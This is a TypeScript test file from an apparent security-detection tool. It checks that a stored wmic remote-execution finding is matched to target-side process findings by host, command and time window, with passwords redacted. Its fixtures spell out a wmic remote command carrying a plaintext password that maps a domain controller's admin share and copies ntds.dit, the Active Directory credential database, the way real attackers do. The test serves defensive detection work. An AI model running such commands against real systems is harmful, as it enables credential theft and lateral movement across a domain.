/**
 * Which stored wmic pair explains a target-side finding (lambda/run/stages/join.ts pairExplains):
 * the confirmation's own match (lambda/confirm: target, command as Windows runs it, `***` for a
 * redacted password, the 1 min before / 5 min after window), run on the real detectors' output.
 * The end-to-end join (incident evidence, follow-up) is test/integration/target-join.test.ts.
 */
import { describe, expect, it } from 'vitest';
import type { Finding, TrackedFinding } from '../../lambda/finding.js';
import { DEFAULT_ALLOWLIST } from '../../lambda/detect/index.js';
import { EMBEDDED_HUNTS, huntById } from '../../lambda/modules/index.js';
import { pairExplains } from '../../lambda/run/index.js';

const T = Date.UTC(2026, 10, 28, 3, 0, 0);
const base = { event_type: 'PROCESS', event_sub_type: 'PROCESS_START', agent_os_type: 'AGENT_OS_WINDOWS', _product: 'XDR agent', actor_effective_username: 'CORP\\adm-k' };
// The password is typed twice: for wmic's /password and for net use inside the remote command (net use's documented
// form `net use \\server\share /user:domain\name password`, https://learn.microsoft.com/windows-server/administration/windows-commands/net-use).
const REMOTE = 'cmd.exe /c net use \\\\dc01\\c$ /user:CORP\\adm-k Winter2026! & copy \\\\dc01\\c$\\ntds.dit C:\\Windows\\Temp\\n.dit';

function wmicPair(target = 'fs03.corp.example'): TrackedFinding {
  const row = {
    ...base, _time: T, event_id: 'w1', agent_hostname: 'WS01', action_process_image_name: 'wmic.exe', actor_process_image_name: 'cmd.exe',
    action_process_image_command_line: `wmic.exe /node:${target} /user:"CORP\\adm-k" /password:Winter2026! process call create "${REMOTE}"`,
  };
  const [f] = huntById(EMBEDDED_HUNTS, 'HuntQuery-Windows-WMIC-RemoteExec').detector(DEFAULT_ALLOWLIST)([row], T).findings;
  return { ...f!, count: 1, status: 'NOTIFIED' };
}

function child(atMs: number, host = 'FS03', line = REMOTE): Finding {
  const row = {
    ...base, _time: atMs, event_id: 'c1', agent_hostname: host, action_process_image_name: 'cmd.exe', action_process_image_command_line: line,
    actor_process_image_name: 'WmiPrvSE.exe', actor_process_command_line: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
  };
  return huntById(EMBEDDED_HUNTS, 'HuntQuery-Windows-WMI-RemoteExec-TargetSide').detector(DEFAULT_ALLOWLIST)([row], atMs).findings[0]!;
}

describe('a stored wmic pair explains a target-side finding', () => {
  it('on its target (any spelling), with its command (passwords redacted on both sides), inside the confirmation window', () => {
    const pair = wmicPair();
    expect(pair.remoteCommand).toContain('***');
    expect(child(T + 3_000).commandLine).not.toContain('Winter2026!');
    expect(pairExplains(pair, child(T + 3_000))).toBe(true);
    expect(pairExplains(pair, child(T + 4 * 60_000, 'fs03.corp.example'))).toBe(true);
    expect(pairExplains(pair, child(T - 30_000))).toBe(true);
  });

  it('not on another host, with another command, or outside the window', () => {
    const pair = wmicPair();
    expect(pairExplains(pair, child(T + 3_000, 'FS04'))).toBe(false);
    expect(pairExplains(pair, child(T + 3_000, 'FS03', 'cmd.exe /c whoami'))).toBe(false);
    expect(pairExplains(pair, child(T + 6 * 60_000))).toBe(false);
    expect(pairExplains(pair, child(T - 2 * 60_000))).toBe(false);
    expect(pairExplains({ ...pair, remoteCommand: null }, child(T + 3_000))).toBe(false);
  });
});
